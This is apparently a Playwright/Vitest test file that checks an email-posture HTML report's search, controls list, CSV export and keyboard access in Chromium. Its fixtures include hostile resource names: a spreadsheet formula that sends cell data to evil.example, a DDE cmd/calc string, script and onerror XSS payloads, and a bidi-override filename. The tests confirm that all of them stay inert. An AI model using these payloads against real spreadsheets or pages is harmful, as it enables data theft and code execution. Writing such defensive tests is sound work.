import { existsSync, readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../reconciler/report/csv.js';
import { renderHtml } from '../../reconciler/report/html.js';
import { CHROMIUM, launchReportBrowser, MISSING_CHROMIUM, type Opened, type ReportBrowser } from './browser.js';
import { hasUnsafeCharacter, hostilePlan, parseCsv, PASSED, UNJUDGED } from './controls-fixtures.js';
import { driftedPlan } from './fixtures.js';

/**
 * The HTML report's search box, its list of controls (passed ones included) and its CSV export, in
 * Chromium on a laptop and on a phone, driven by mouse and by keyboard, over tenant strings chosen
 * to break a page or a spreadsheet.
 */

const LAPTOP = { width: 1280, height: 900 };
const PHONE = { width: 390, height: 844 };

const plan = hostilePlan();
const html = renderHtml(plan);
const FINDINGS = plan.findings.length;
const CONTROLS = plan.controls!.length;

let reports: ReportBrowser | undefined;

async function open(name: string, viewport: { width: number; height: number }, javaScriptEnabled = true, page = html): Promise<Opened> {
  if (!reports) throw new Error(MISSING_CHROMIUM);
  return reports.open(name, page, javaScriptEnabled, viewport);
}

/** How far the page is wider than the window (0 when it fits). */
const overflow = (page: Page): Promise<number> => page.evaluate('document.documentElement.scrollWidth - window.innerWidth') as Promise<number>;

/** The visible finding articles, and visible control rows, by what they show. */
const shownFindings = (page: Page): Promise<number> => page.locator('#by-owner article[data-finding]:visible').count();
const shownControls = (page: Page): Promise<number> => page.locator('#controls tr[data-control-result]:visible').count();

/** Clicks (or presses Enter on) the CSV button and returns the file's name and text. */
async function download(page: Page, how: 'click' | 'keyboard' = 'click'): Promise<{ name: string; text: string }> {
  const button = page.locator('#csv-download');
  const [file] = await Promise.all([page.waitForEvent('download'), how === 'click' ? button.click() : page.keyboard.press('Enter')]);
  const path = await file.path();
  return { name: file.suggestedFilename(), text: readFileSync(path, 'utf8') };
}

/** Types into the search box as a person does, key by key, and waits for the count to be announced. */
async function search(page: Page, text: string, expected: string): Promise<void> {
  const box = page.getByRole('searchbox', { name: 'Search' });
  await box.fill('');
  await box.pressSequentially(text);
  await expect.poll(() => page.locator('#filter-count').innerText()).toBe(expected);
}

describe('HTML report: search, controls and CSV in a browser', () => {
  beforeAll(async () => {
    if (!existsSync(CHROMIUM)) throw new Error(MISSING_CHROMIUM);
    reports = await launchReportBrowser('email-posture-search-');
  });

  afterAll(async () => {
    await reports?.close();
  });

  for (const [label, viewport] of [
    ['laptop', LAPTOP],
    ['phone', PHONE],
  ] as const) {
    describe(`${viewport.width} px wide (${label})`, () => {
      it('lists every control with its result: passed ones with what was checked, not evaluated ones as such', async () => {
        const { context, page, requests, problems } = await open(`controls-${label}.html`, viewport);
        try {
          expect(await shownControls(page)).toBe(CONTROLS);
          for (const [id, owner] of PASSED) {
            const row = page.locator(`#controls tr[data-control="${id}v1"]`);
            expect(await row.getAttribute('data-control-result')).toBe('passed');
            const text = await row.innerText();
            expect(text).toContain(`${id}v1`);
            expect(text).toContain('passed');
            expect(text).toContain(owner.name);
            expect(text).toMatch(/critical|high|medium|low/);
            expect(text).toContain('Read:');
          }
          const spf = await page.locator('#controls tr[data-control="MAIL.SPF.1v1"]').innerText();
          expect(spf).toContain('SPF is published and ends in -all');
          expect(spf).toContain('Exactly one v=spf1 TXT record at the domain apex.');

          const unjudged = page.locator(`#controls tr[data-control="${UNJUDGED[0]}v1"]`);
          expect(await unjudged.getAttribute('data-control-result')).toBe('not-evaluated');
          expect(await unjudged.innerText()).toContain(`Not evaluated: ${UNJUDGED[1]}`);
          expect(await unjudged.innerText()).not.toMatch(/\bpassed\b/);
          // A control with findings to act on is failed and links to them.
          const fwd4 = page.locator('#controls tr[data-control="MAIL.FWD.4v1"]');
          expect(await fwd4.getAttribute('data-control-result')).toBe('failed');
          expect(await fwd4.getByRole('link').innerText()).toMatch(/^\d+ findings$/);
          expect(await page.locator('.control-tally').innerText()).toContain(`${PASSED.length} of ${CONTROLS} passed`);

          await page.getByLabel('Status', { exact: true }).selectOption('passed');
          await expect.poll(() => page.locator('#filter-count').innerText()).toBe(`Showing 0 of ${FINDINGS} findings and ${PASSED.length} of ${CONTROLS} controls`);
          expect(await shownFindings(page)).toBe(0);
          expect(await page.locator('#by-owner [data-empty="findings"]').isVisible()).toBe(true);
          for (const row of await page.locator('#controls tr[data-control-result]').all()) {
            expect(await row.isVisible()).toBe((await row.getAttribute('data-control-result')) === 'passed');
          }
          await page.getByLabel('Status', { exact: true }).selectOption('not-evaluated');
          await expect.poll(() => shownControls(page)).toBeGreaterThan(0);
          // The controls not evaluated, and those with a finding not evaluated (failed by another finding).
          expect(await page.locator(`#controls tr[data-control="${UNJUDGED[0]}v1"]`).isVisible()).toBe(true);
          for (const row of await page.locator('#controls tr[data-control-result]:visible').all()) {
            const control = await row.getAttribute('data-control');
            const unread = await page.locator(`#by-owner article:visible[data-control="${control}"][data-status="not-evaluated"]`).count();
            expect((await row.getAttribute('data-control-result')) === 'not-evaluated' || unread > 0).toBe(true);
          }
          expect(await overflow(page)).toBe(0);
          expect(requests).toEqual([]);
          expect(problems).toEqual([]);
        } finally {
          await context.close();
        }
      });

      it('narrows findings and controls as one types, announces the count, and works with the other filters', async () => {
        const { context, page, requests, problems } = await open(`search-${label}.html`, viewport);
        try {
          const count = page.locator('#filter-count');
          expect(await count.getAttribute('aria-live')).toBe('polite');
          expect(await count.innerText()).toBe(`Showing ${FINDINGS} of ${FINDINGS} findings and ${CONTROLS} of ${CONTROLS} controls`);

          // A resource name: the one inbox rule, and its control.
          await search(page, 'HYPERLINK', `Showing 1 of ${FINDINGS} findings and 1 of ${CONTROLS} controls`);
          expect(await shownFindings(page)).toBe(1);
          expect(await page.locator('#by-owner article:visible h4').innerText()).toContain('=HYPERLINK(');
          expect(await page.locator('#by-control tr[data-finding]:visible').count()).toBe(1);
          expect(await page.locator('#controls tr:visible[data-control="MAIL.FWD.4v1"]').count()).toBe(1);
          expect(await overflow(page)).toBe(0);

          // With a severity filter that excludes it: nothing, said in words.
          await page.getByLabel('Severity', { exact: true }).selectOption('low');
          await expect.poll(() => count.innerText()).toBe(`Showing 0 of ${FINDINGS} findings and 0 of ${CONTROLS} controls`);
          expect(await page.locator('#by-owner [data-empty="findings"]').isVisible()).toBe(true);
          expect(await page.locator('#controls [data-empty="controls"]').isVisible()).toBe(true);

          // An owner's contact, every word matched, any case.
          await page.getByLabel('Severity', { exact: true }).selectOption('');
          await search(page, 'IDENTITY-TEAM@ ca', `Showing ${await expected(page, 'identity-team@', 'ca')} of ${FINDINGS} findings and ${await expectedControls(page, 'identity-team@', 'ca')} of ${CONTROLS} controls`);
          for (const a of await page.locator('#by-owner article:visible').all()) expect(await a.getAttribute('data-owner')).toBe('identity-team@tailspintoys.example');

          // A passed control by its title, under the passed status.
          await page.getByLabel('Status', { exact: true }).selectOption('passed');
          await search(page, 'spf', `Showing 0 of ${FINDINGS} findings and 1 of ${CONTROLS} controls`);
          expect(await page.locator('#controls tbody tr:visible').getAttribute('data-control')).toBe('MAIL.SPF.1v1');

          // Clear filters clears the search too.
          await page.getByRole('button', { name: 'Clear filters' }).click();
          await expect.poll(() => count.innerText()).toBe(`Showing ${FINDINGS} of ${FINDINGS} findings and ${CONTROLS} of ${CONTROLS} controls`);
          expect(await page.getByRole('searchbox', { name: 'Search' }).inputValue()).toBe('');
          expect(requests).toEqual([]);
          expect(problems).toEqual([]);
        } finally {
          await context.close();
        }
      });

      it('downloads a CSV of exactly what is shown, quoted as RFC 4180 asks and safe to open in a spreadsheet', async () => {
        const { context, page, requests, problems } = await open(`csv-${label}.html`, viewport);
        try {
          const all = await download(page);
          expect(all.name).toBe('posture-tailspin-plan-2025-06-02.csv');
          expect(all.text.startsWith('\uFEFF')).toBe(true);
          expect(all.text.endsWith('\r\n')).toBe(true);
          const records = parseCsv(all.text.slice(1));
          expect(records[0]).toEqual([...CSV_COLUMNS]);
          const body = records.slice(1);
          expect(body).toHaveLength(FINDINGS + CONTROLS);
          for (const r of body) expect(r).toHaveLength(CSV_COLUMNS.length);
          expect(body.filter((r) => r[0] === 'finding').map((r) => r[1]).sort()).toEqual(plan.findings.map((f) => f.id).sort());
          expect(body.filter((r) => r[0] === 'control').map((r) => `${r[1]} ${r[4]}`)).toEqual(
            plan.controls!.map((c) => `${c.control.versionedId} ${c.result === 'not-evaluated' ? 'not evaluated' : c.result}`),
          );
          // No cell can start a formula, and each hostile name is there, after its defusing quote where it needed one.
          for (const r of body) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
          const names = body.filter((r) => r[0] === 'finding').map((r) => r[CSV_COLUMNS.indexOf('resource name')]!);
          expect(names).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Click to fix")`);
          expect(names).toContain(`'@SUM(1+9)*cmd|' /C calc'!A0`);
          expect(names).toContain(`'\t=1+1`);
          expect(names).toContain(`'\r=1+1`);
          expect(names).toContain('quote " and, comma');
          expect(names).toContain('two\r\nlines');
          expect(names).toContain('</script><script>alert(1)</script>');
          expect(names).toContain('invoice\\u{202e}txt.exe');
          expect(names).toContain('bell\\x07esc\\x1b[31m');
          expect(hasUnsafeCharacter(all.text.slice(1))).toBe(false);

          // Under a search, only what is shown.
          await search(page, 'hyperlink', `Showing 1 of ${FINDINGS} findings and 1 of ${CONTROLS} controls`);
          const some = parseCsv((await download(page)).text.slice(1));
          expect(some.slice(1).map((r) => `${r[0]} ${r[2]}`)).toEqual(['finding MAIL.FWD.4v1', 'control MAIL.FWD.4v1']);
          await page.getByLabel('Status', { exact: true }).selectOption('passed');
          await page.getByRole('searchbox', { name: 'Search' }).fill('');
          await expect.poll(() => shownControls(page)).toBe(PASSED.length);
          const passed = parseCsv((await download(page)).text.slice(1));
          expect(passed.slice(1).map((r) => `${r[1]} ${r[4]}`)).toEqual(PASSED.map(([id]) => `${id}v1 passed`));
          expect(requests).toEqual([]);
          expect(problems).toEqual([]);
        } finally {
          await context.close();
        }
      });

      it('is used from the keyboard alone: every control in order, the CSV by Enter', async () => {
        const { context, page, problems } = await open(`keyboard-${label}.html`, viewport);
        try {
          await page.locator('#filter-severity').focus();
          const order: string[] = [];
          for (let i = 0; i < 6; i++) {
            order.push((await page.evaluate('document.activeElement.id || document.activeElement.textContent')) as string);
            await page.keyboard.press('Tab');
          }
          expect(order).toEqual(['filter-severity', 'filter-status', 'filter-owner', 'filter-search', 'Clear filters', 'csv-download']);
          await page.keyboard.press('Shift+Tab');
          await page.keyboard.press('Shift+Tab');
          await page.keyboard.press('Shift+Tab');
          expect(await page.evaluate('document.activeElement.id')).toBe('filter-search');
          await page.keyboard.type('hyperlink');
          await expect.poll(() => page.locator('#filter-count').innerText()).toBe(`Showing 1 of ${FINDINGS} findings and 1 of ${CONTROLS} controls`);
          // Enter in the search box submits nothing and reloads nothing.
          await page.keyboard.press('Enter');
          expect(await page.getByRole('searchbox', { name: 'Search' }).inputValue()).toBe('hyperlink');
          await page.keyboard.press('Tab');
          await page.keyboard.press('Tab');
          expect(await page.evaluate('document.activeElement.id')).toBe('csv-download');
          const { text } = await download(page, 'keyboard');
          expect(parseCsv(text.slice(1))).toHaveLength(3);
          // Every control has a visible focus ring.
          const outline = (await page.evaluate('getComputedStyle(document.activeElement).outlineStyle')) as string;
          expect(outline).not.toBe('none');
          expect(problems).toEqual([]);
        } finally {
          await context.close();
        }
      });

      it('keeps hostile names inert through search, print note and export', async () => {
        const { context, page, requests, problems } = await open(`hostile-${label}.html`, viewport);
        try {
          const elements = async () => page.evaluate('[document.querySelectorAll("script").length, document.querySelectorAll("img").length, document.querySelectorAll("[onerror]").length]');
          expect(await elements()).toEqual([1, 0, 0]);
          for (const name of ['</script><script>alert(1)</script>', '<img src=x onerror=alert(1)>']) {
            // The second also finds the drifted tenant's rule, whose name begins with it.
            const n = name.startsWith('<img') ? 2 : 1;
            await search(page, name, `Showing ${n} of ${FINDINGS} findings and 1 of ${CONTROLS} controls`);
            for (const h4 of await page.locator('#by-owner article:visible h4').all()) expect(await h4.innerText()).toContain(name);
            await page.emulateMedia({ media: 'print' });
            const note = page.locator('[data-print-filter="list"]');
            expect(await note.isVisible()).toBe(true);
            expect(await note.innerText()).toBe(
              `Filtered: showing ${n} of ${FINDINGS} findings and 1 of ${CONTROLS} controls (Search: “${name}”). The counts at the top cover all ${FINDINGS}.`,
            );
            await page.emulateMedia({ media: 'screen' });
            await download(page);
            expect(await elements()).toEqual([1, 0, 0]);
          }
          // A bidirectional override in a name is shown as an escape, and found by it.
          await search(page, 'invoice\\u{202e}', `Showing 1 of ${FINDINGS} findings and 1 of ${CONTROLS} controls`);
          expect(await page.locator('#by-owner article:visible h4').innerText()).toContain('invoice\\u{202e}txt.exe');
          expect(await overflow(page)).toBe(0);
          expect(requests).toEqual([]);
          expect(problems).toEqual([]);
        } finally {
          await context.close();
        }
      });
    });
  }

  it('says on paper which filter and search the lists are under, beside the counts of everything', async () => {
    const { context, page, problems } = await open('print-search.html', LAPTOP);
    try {
      await page.getByLabel('Status', { exact: true }).selectOption('actionable');
      await search(page, 'forward', `Showing ${await expected(page, 'forward')} of ${FINDINGS} findings and ${await expectedControls(page, 'forward')} of ${CONTROLS} controls`);
      await page.emulateMedia({ media: 'print' });
      const counts = await page.locator('[data-print-filter="counts"]').innerText();
      expect(counts).toMatch(new RegExp(`^Filtered copy: these counts cover all ${FINDINGS} findings; the lists below show \\d+ of them and \\d+ of ${CONTROLS} controls \\(Status: To act on; Search: “forward”\\)\\.$`));
      expect(await page.locator('#filters').isVisible()).toBe(false);
      expect(await page.locator('#controls').isVisible()).toBe(true);
      expect(problems).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('shows every finding and control without JavaScript, and says what needs it', async () => {
    const { context, page, problems } = await open('nojs.html', PHONE, false);
    try {
      expect(await page.locator('#filters').isVisible()).toBe(false);
      expect(await page.getByText('All findings and controls are shown. Filtering, search and the CSV download need JavaScript.').isVisible()).toBe(true);
      expect(await shownControls(page)).toBe(CONTROLS);
      expect(await shownFindings(page)).toBe(FINDINGS);
      expect(await overflow(page)).toBe(0);
      expect(problems).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('says so when a plan does not record its controls, and never calls anything passed', async () => {
    const { context, page, problems } = await open('no-controls.html', LAPTOP, true, renderHtml(driftedPlan()));
    try {
      expect(await page.locator('#controls').count()).toBe(0);
      expect(await page.locator('#controls-absent').innerText()).toContain('does not record which controls passed');
      expect(await page.locator('#filter-status option[value="passed"]').count()).toBe(0);
      expect(await page.locator('#filter-count').innerText()).toBe('Showing 13 of 13 findings');
      expect(problems).toEqual([]);
    } finally {
      await context.close();
    }
  });
});

/** How many findings a search for every one of `words` should show, from the findings' own search text. */
async function expected(page: Page, ...words: string[]): Promise<number> {
  return page.evaluate(
    `Array.from(document.querySelectorAll('#by-owner article[data-finding]')).filter((a) => ${JSON.stringify(words)}.every((w) => a.dataset.search.includes(w))` +
      ` && (document.getElementById('filter-status').value !== 'actionable' || a.dataset.actionable === 'true')).length`,
  ) as Promise<number>;
}

/** How many controls a search for `words` should show: those it matches, and those with a finding it shows. */
async function expectedControls(page: Page, ...words: string[]): Promise<number> {
  return page.evaluate(
    `(() => { const ws = ${JSON.stringify(words)}; const actionable = document.getElementById('filter-status').value === 'actionable';` +
      ` const withFindings = new Set(Array.from(document.querySelectorAll('[data-finding]')).filter((a) => ws.every((w) => a.dataset.search.includes(w)) && (!actionable || a.dataset.actionable === 'true')).map((a) => a.dataset.control));` +
      ` return Array.from(document.querySelectorAll('tr[data-control-result]')).filter((r) => withFindings.has(r.dataset.control) || (!actionable && ws.every((w) => r.dataset.search.includes(w)))).length; })()`,
  ) as Promise<number>;
}
